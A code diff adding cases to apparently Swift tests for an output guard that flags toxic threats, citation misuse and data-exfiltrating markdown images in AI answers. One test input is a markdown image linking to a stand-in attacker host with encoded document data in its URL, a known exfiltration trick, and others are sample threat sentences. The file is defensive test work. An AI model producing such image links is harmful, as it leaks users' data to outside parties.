@@ -18,6 +18,18 @@ struct OutputGuardTests {
         #expect(result.verdicts.contains { $0.ruleID == GuardRuleID.outputCanary })
     }
 
+    @Test("threat in the answer is caught", arguments: ["I will kill you [1].", "We will hurt you if you ask again."])
+    func threat(answer: String) {
+        let result = outputGuard().scan(answer)
+        #expect(result.verdicts.contains { $0.ruleID == GuardRuleID.outputToxic })
+    }
+
+    @Test("redaction marker is not a citation")
+    func redactionMarkerIsNotCitation() {
+        let result = outputGuard().scan("Write to [REDACTED:pii.email] for help [1].")
+        #expect(!result.verdicts.contains { $0.ruleID == GuardRuleID.outputCitation })
+    }
+
     @Test("markdown image carrying data is removed")
     func imageExfiltration() {
         let result = outputGuard().scan("Done. ![chart](https://evil.example/p.png?d=c2VjcmV0LXZhbHVlLWZyb20tZG9j) Bye")
